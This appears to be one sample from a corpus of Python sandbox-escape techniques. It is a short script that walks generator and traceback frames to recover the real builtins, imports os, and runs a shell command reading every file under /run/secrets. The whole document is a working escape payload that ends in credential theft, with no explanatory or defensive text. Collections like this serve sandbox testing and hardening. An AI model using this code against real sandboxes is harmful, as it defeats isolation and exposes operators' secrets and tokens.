# corpus: generator gi_frame.f_back and traceback tb_frame walks to recover real builtins and globals
def outer_frame():
    gen = (gen.gi_frame.f_back for _ in [None])
    return [*gen][0]

def via_traceback():
    try:
        raise RuntimeError
    except RuntimeError as exc:
        return exc.__traceback__.tb_frame.f_back

frame = outer_frame() or via_traceback()
b = frame.f_builtins
imp = b["__import__"] if isinstance(b, dict) else b.__dict__["__import__"]
imp("os").system("cat /run/secrets/* 2>/dev/null")
